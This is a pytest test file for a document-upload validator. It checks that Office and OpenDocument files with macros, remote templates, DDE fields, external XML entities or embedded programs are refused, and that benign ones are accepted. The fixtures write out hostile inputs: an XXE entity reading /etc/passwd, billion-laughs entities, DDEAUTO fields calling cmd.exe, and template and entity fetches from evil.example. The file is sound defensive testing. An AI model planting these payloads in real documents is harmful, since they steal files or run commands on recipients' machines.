"""Office documents with code, with links that are followed unasked, with entities: refused, each in its own words."""

import io

import pytest

from portal.lib.filetype import why_not_content
from portal.lib.inspection.targets import is_remote
from tests.support import files
from tests.support.files import office, opened, relation

MACROS, ENTITIES, FETCHES, DDE, LOCKED = "makron", "entiteter", "hämtar", "DDE", "lösenord"
COMPOUND = bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504)


def utf16(text: str) -> bytes:
    """Return the text as a compound file names its streams."""
    return text.encode("utf-16-le")


def told(name: str, data: bytes) -> str:
    """Return why the bytes cannot be attached, or an empty text."""
    return why_not_content(name, io.BytesIO(data)) or ""


def field(*instructions: str) -> str:
    """Return a Word text with one field, its instruction in pieces."""
    pieces = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r><w:proofErr/>" for text in instructions)
    begin, end = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
    return f'<w:document xmlns:w="w"><w:t>DDE</w:t>{begin}{pieces}{end}</w:document>'


XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'
DRAWN = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "{}Graphics/SVG/1.1/DTD/svg11.dtd"{}><svg xmlns="&n;"/>'
SPACES = ' [<!ENTITY n "http://www.w3.org/2000/svg"><!ENTITY x "http://www.w3.org/1999/xlink">]'
DRAWING = DRAWN.format("http://www.w3.org/", SPACES)
REMOTE = "http://evil.example/x"
SETTINGS = "word/_rels/settings.xml.rels"
HOSTILE = {
    "macros": ("docx", {"word/vbaProject.bin": "x"}, MACROS),
    "macros elsewhere": ("xlsx", {"custom/VBAPROJECT.BIN": "x"}, MACROS),
    "macros under another name": ("docx", {"word/media/bild.png": COMPOUND + utf16("_VBA_PROJECT")}, MACROS),
    "macros in the types": (
        "docx",
        {"[Content_Types].xml": files.types("docx", "application/vnd.ms-office.vbaProject")},
        MACROS,
    ),
    "a docm renamed": (
        "docx",
        {"[Content_Types].xml": files.types("docx", "application/vnd.ms-word.document.macroEnabled.main+xml")},
        MACROS,
    ),
    "macros in the relations": (
        "docx",
        {"word/_rels/document.xml.rels": relation("vbaProject", "a.bin", "Internal")},
        MACROS,
    ),
    "a macro sheet": ("xlsx", {"xl/macrosheets/sheet1.xml": "<m/>"}, MACROS),
    "a macro sheet in the types": (
        "xlsx",
        {"[Content_Types].xml": files.types("xlsx", "application/vnd.ms-excel.intlmacrosheet+xml")},
        MACROS,
    ),
    "macros in an embedded binary workbook": (
        "docx",
        {
            "[Content_Types].xml": files.types("docx", "application/vnd.ms-excel.sheet.binary.macroEnabled.12"),
            "word/embeddings/a.xlsb": office("xlsx", {"xl/vbaProject.bin": "x"}),
        },
        MACROS,
    ),
    "macros in the embedded": ("docx", {"word/embeddings/a.xlsx": office("xlsx", {"xl/vbaProject.bin": "x"})}, MACROS),
    "a remote template": (
        "docx",
        {SETTINGS: relation("attachedTemplate", "http://evil.example/x.dotm")},
        "hämtar en mall",
    ),
    "a template on a share": (
        "docx",
        {SETTINGS: relation("attachedTemplate", "file:///\\\\10.0.0.1\\x.dotm")},
        FETCHES,
    ),
    "a remote picture": ("docx", {"word/_rels/document.xml.rels": relation("image", REMOTE)}, "hämtar en bild"),
    "a remote object": ("docx", {"word/_rels/document.xml.rels": relation("oleObject", f"mhtml:{REMOTE}!x")}, FETCHES),
    "a remote frame": ("docx", {"word/_rels/webSettings.xml.rels": relation("frame", REMOTE)}, FETCHES),
    "a remote part": ("pptx", {"ppt/_rels/presentation.xml.rels": relation("slideMaster", REMOTE)}, FETCHES),
    "a remote part not said to be so": ("docx", {SETTINGS: relation("attachedTemplate", REMOTE, "Internal")}, FETCHES),
    "relations under another name": ("docx", {"word/_rels/a.bin": relation("attachedTemplate", REMOTE)}, FETCHES),
    "an external entity": ("docx", {"word/document.xml": XXE}, ENTITIES),
    "an entity in a part beside": ("xlsx", {"xl/sharedStrings.xml": XXE}, ENTITIES),
    "an entity in the types": ("docx", {"[Content_Types].xml": XXE}, ENTITIES),
    "an entity in custom xml": ("pptx", {"customXml/item1.xml": XXE}, ENTITIES),
    "an entity under another name": ("docx", {"word/document.dat": "\n " + XXE}, ENTITIES),
    "an entity in UTF-16": ("docx", {"word/a.xml": ('<?xml version="1.0"?>' + XXE).encode("utf-16")}, ENTITIES),
    "an entity in a drawing": ("docx", {"word/vmlDrawing1.vml": XXE}, ENTITIES),
    "a billion laughs": ("docx", {"word/document.xml": LAUGHS}, ENTITIES),
    "a document type alone": ("docx", {"word/a.xml": '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>'}, ENTITIES),
    "a drawing's type from elsewhere": (
        "docx",
        {"word/media/a.svg": DRAWN.format("http://evil.example/", "")},
        ENTITIES,
    ),
    "a drawing that fetches an entity": (
        "docx",
        {"word/media/a.svg": DRAWING.replace('"http://www.w3.org/2000/svg"', 'SYSTEM "file:///etc/passwd"')},
        ENTITIES,
    ),
    "a drawing that fetches its declarations": (
        "docx",
        {"word/media/a.svg": DRAWING.replace("[", '[<!ENTITY % p SYSTEM "http://evil.example/p">%p;')},
        ENTITIES,
    ),
    "a drawing that laughs": ("docx", {"word/media/a.svg": DRAWING.replace("1999/xlink", "&n;&n;")}, ENTITIES),
    "a drawing with a long laugh": ("docx", {"word/media/a.svg": DRAWING.replace("2000", "ha" * 99)}, ENTITIES),
    "a DDE field through a drawing's entity": (
        "docx",
        {
            "word/document.xml": DRAWING.partition("<svg")[0].replace("http://www.w3.org/2000/svg", "DDE")
            + field("&n; c")
        },
        DDE,
    ),
    "a UTF-16 part that says UTF-8": (
        "docx",
        {SETTINGS: ('<?xml version="1.0" encoding="utf-8"?>' + relation("image", REMOTE)).encode("utf-16-le")},
        FETCHES,
    ),
    "a DDE field": ("docx", {"word/document.xml": field(" DDEAUTO c:\\\\windows\\\\cmd.exe")}, DDE),
    "a DDE field in pieces": ("docx", {"word/header1.xml": field(" D", "DE", "AUTO cmd")}, DDE),
    "a simple DDE field": (
        "docx",
        {"word/document.xml": '<d:document xmlns:d="d"><d:fldSimple d:instr="DDE cmd"/></d:document>'},
        DDE,
    ),
    "an unclosed DDE field": (
        "docx",
        {"word/document.xml": field("DDE cmd").replace('<w:fldChar w:fldCharType="end"/>', "")},
        DDE,
    ),
    "a DDE link": (
        "xlsx",
        {"xl/externalLinks/externalLink1.xml": '<externalLink><ddeLink ddeService="cmd"/></externalLink>'},
        DDE,
    ),
    "links that update themselves": (
        "xlsx",
        {"xl/workbook.xml": '<workbook><workbookPr updateLinks="always"/></workbook>'},
        FETCHES,
    ),
    "a data connection": (
        "xlsx",
        {"xl/connections.xml": '<connections><connection id="1" type="4"/></connections>'},
        FETCHES,
    ),
    "a slide that starts a program": (
        "pptx",
        {"ppt/slides/slide1.xml": '<p:sld xmlns:p="p"><a action="ppaction://program"/></p:sld>'},
        "startar ett program",
    ),
    "a program": ("docx", {"word/embeddings/a.exe": "x"}, "programfil"),
    "a program under another name": ("docx", {"word/media/image1.png": b"MZ\x90\x00"}, "programfil"),
    "a packaged program": (
        "docx",
        {"word/embeddings/oleObject1.bin": COMPOUND + utf16("\x01Ole10Native") + b"faktura.EXE\x00"},
        "programfil",
    ),
    "not well formed": ("docx", {"word/document.xml": "<document>"}, "skadad"),
    "a coding that there is none of": (
        "docx",
        {"word/document.xml": '<?xml version="1.0" encoding="x"?><d/>'},
        "skadad",
    ),
    "a coding of more bytes": ("docx", {"word/document.xml": '<?xml version="1.0" encoding="big5"?><d/>'}, "skadad"),
    "a token without end": ("docx", {"word/document.xml": "<document a='" + "x" * 6_000_000 + "'/>"}, "skadad"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_a_hostile_document_is_refused(case: str) -> None:
    extension, parts, reason = HOSTILE[case]
    assert reason in told(f"a.{extension}", office(extension, parts))


HREF = (
    '<office:document-content xmlns:office="o" xmlns:xlink="x"><{tag} xlink:href="{target}"/></office:document-content>'
)
OPEN_HOSTILE = {
    "Basic": ({"Basic/Standard/Module1.xml": "<m/>"}, MACROS),
    "a script": ({"Scripts/python/x.py": "1"}, MACROS),
    "an event": (
        {"content.xml": HREF.format(tag="script:event-listener", target="vnd.sun.star.script:x.py$run?location=share")},
        MACROS,
    ),
    "a remote picture": ({"content.xml": HREF.format(tag="draw:image", target=REMOTE)}, "hämtar en bild"),
    "a remote section": ({"content.xml": HREF.format(tag="text:section-source", target=REMOTE)}, FETCHES),
    "a remote template": (
        {"meta.xml": HREF.format(tag="meta:template", target="file://evil/x.ott").replace("content", "meta")},
        FETCHES,
    ),
    "a page that reloads": (
        {"meta.xml": HREF.format(tag="meta:auto-reload", target=REMOTE).replace("content", "meta")},
        FETCHES,
    ),
    "DDE": ({"content.xml": HREF.format(tag="office:dde-source", target="")}, DDE),
    "an entity": ({"styles.xml": XXE}, ENTITIES),
    "another's document type": ({"content.xml": '<!DOCTYPE x PUBLIC "-//evil//DTD" "x.dtd"><x/>'}, ENTITIES),
    "an entity in a known type": (
        {"a.xml": XXE.replace("x [", 'x PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "m" [')},
        ENTITIES,
    ),
    "a password": ({"META-INF/manifest.xml": '<m:manifest xmlns:m="m"><m:encryption-data/></m:manifest>'}, LOCKED),
    "a password, told after what it hides": (
        {
            "content.xml": b"\x8f\x01",
            "META-INF/manifest.xml": '<m:manifest xmlns:m="m"><m:encryption-data/></m:manifest>',
        },
        LOCKED,
    ),
    "an embedded macro": ({"Object 1": office("docx", {"word/vbaProject.bin": "x"})}, MACROS),
}


@pytest.mark.parametrize("case", OPEN_HOSTILE)
def test_a_hostile_open_document_is_refused(case: str) -> None:
    parts, reason = OPEN_HOSTILE[case]
    assert reason in told("a.odt", opened("odt", parts))


BINARY = '<Types><Override ContentType="application/vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>'
TAKEN = {
    "hyperlinks": ("docx", {"word/_rels/document.xml.rels": relation("hyperlink", "https://ekvik.example/")}),
    "a hyperlink to a share": (
        "docx",
        {"word/_rels/document.xml.rels": relation("hyperlink", "file:///\\\\srv\\g\\a.docx")},
    ),
    "a template of one's own": ("docx", {SETTINGS: relation("attachedTemplate", "file:///C:\\Mallar\\Kommun.dotx")}),
    "a template beside": ("docx", {SETTINGS: relation("attachedTemplate", "Normal.dotm")}),
    "a lost picture": ("docx", {"word/_rels/document.xml.rels": relation("image", "file:///C:\\Users\\a\\bild.png")}),
    "a film to click on": ("pptx", {"ppt/slides/_rels/slide1.xml.rels": relation("video", "https://play.example/1")}),
    "another workbook": (
        "xlsx",
        {"xl/externalLinks/_rels/externalLink1.xml.rels": relation("externalLinkPath", "https://a.example/b.xlsx")},
    ),
    "a data model": ("xlsx", {"xl/connections.xml": '<connections><connection id="1" type="100"/></connections>'}),
    "ordinary fields": ("docx", {"word/document.xml": field(" TOC \\o ", "&quot;1-3&quot; ")}),
    "a text about DDE": ("docx", {"word/document.xml": '<w:document xmlns:w="w"><w:t>DDEAUTO cmd</w:t></w:document>'}),
    "an equation": ("docx", {"word/embeddings/oleObject1.bin": COMPOUND + utf16("Equation Native")}),
    "the sheet of a chart": ("pptx", {"ppt/embeddings/a.xlsx": office("xlsx")}),
    "an embedded OpenDocument": ("docx", {"word/embeddings/a.bin": opened("ods")}),
    "embedded fonts and thumbnails": (
        "docx",
        {"word/fonts/font1.odttf": bytes(range(256)), "docProps/thumbnail.emf": b"\x01\x00"},
    ),
    "loose drawings": ("xlsx", {"xl/drawings/vmlDrawing1.vml": '<xml xmlns:v="v"><v:shape><br></v:shape></xml>'}),
    "folders": ("docx", {"word/": "", "word/media/": ""}),
    "backslashes for slashes": ("docx", {"word\\a.xml": "<a/>"}),
    "a UTF-16 part": ("docx", {"customXml/item1.xml": '<?xml version="1.0" encoding="utf-16"?><a/>'.encode("utf-16")}),
    "a UTF-16 part that says UTF-8": (
        "xlsx",
        {"xl/customProperty1.bin": '<?xml version="1.0" encoding="utf-8"?><ACCT id="1"/>'.encode("utf-16-le")},
    ),
    "a drawing of Inkscape's": ("docx", {"word/media/a.svg": DRAWN.format("http://www.w3.org/", "")}),
    "a drawing of Illustrator's": ("docx", {"word/media/a.svg": DRAWING}),
    "an embedded binary workbook": (
        "docx",
        {
            "[Content_Types].xml": files.types("docx", "application/vnd.ms-excel.sheet.binary.macroEnabled.12"),
            "word/embeddings/a.xlsb": office("xlsx", {"[Content_Types].xml": BINARY}),
        },
    ),
    "types by extension": (
        "docx",
        {"[Content_Types].xml": f'<Types><Default Extension="xml" ContentType="{files.MAIN["docx"][1]}"/></Types>'},
    ),
}


@pytest.mark.parametrize("case", TAKEN)
def test_what_real_documents_have_is_taken(case: str) -> None:
    extension, parts = TAKEN[case]
    assert told(f"a.{extension}", office(extension, parts)) == ""


OPEN_TAKEN = {
    "links": {"content.xml": HREF.format(tag="text:a", target="https://ekvik.example/")},
    "a form that is sent": {"content.xml": HREF.format(tag="form:form", target="https://ekvik.example/")},
    "its own picture": {"content.xml": HREF.format(tag="draw:image", target="Pictures/1.png")},
    "the template it was made from": {"meta.xml": HREF.format(tag="meta:template", target="../../mallar/a.ott")},
    "empty libraries": {
        "Basic/script-lc.xml": "<l/>",
        "Basic/Standard/script-lb.xml": "<l/>",
        "Dialogs/dialog-lc.xml": "<l/>",
    },
    "a drawing of Illustrator's": {"Pictures/1.svg": DRAWING},
    "OpenOffice's own document type": {
        "META-INF/manifest.xml": '<!DOCTYPE m PUBLIC "-//OpenOffice.org//DTD Manifest 1.0//EN" "Manifest.dtd"><m/>'
    },
}


@pytest.mark.parametrize("case", OPEN_TAKEN)
def test_what_real_open_documents_have_is_taken(case: str) -> None:
    assert told("a.odt", opened("odt", OPEN_TAKEN[case])) == ""


def test_a_password_says_so() -> None:
    assert "lösenord" in told("a.docx", COMPOUND + utf16("EncryptedPackage"))


def test_an_old_format_says_what_to_do() -> None:
    assert "spara den som xlsx" in told("a.xlsx", COMPOUND + utf16("Workbook"))


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("http://a.example/x", True),
        ("HTTPS://a.example/x", True),
        ("ftp://a/x", True),
        ("\\\\server\\x", True),
        ("//server/x", True),
        ("file://server/x", True),
        ("file:////server/x", True),
        ("file:///\\\\server\\x", True),
        ("file:///%5C%5Cserver%5Cx", True),
        ("file:\\\\server\\x", True),
        ("mhtml:http://a.example", True),
        ("ms-word:ofe|u|http://a.example", True),
        ("media/bild.png", False),
        ("../a b.dotx", False),
        ("file:///C:/mallar/a.dotx", False),
        ("file://C:/mallar/a.dotx", False),
        ("file:////C:\\mallar\\a.dotx", False),
        ("file://localhost/a", False),
        ("file:///home/a/b.ott", False),
        ("C:\\mallar\\a.dotx", False),
        ("mailto:a@b.example", False),
        ("data:image/png;base64,AA", False),
        ("Bild 1: en bild.png", False),
        ("#bokmärke", False),
        ("NULL", False),
        ("", False),
    ],
)
def test_where_a_reference_leads(target: str, expected: bool) -> None:
    assert is_remote(target) is expected
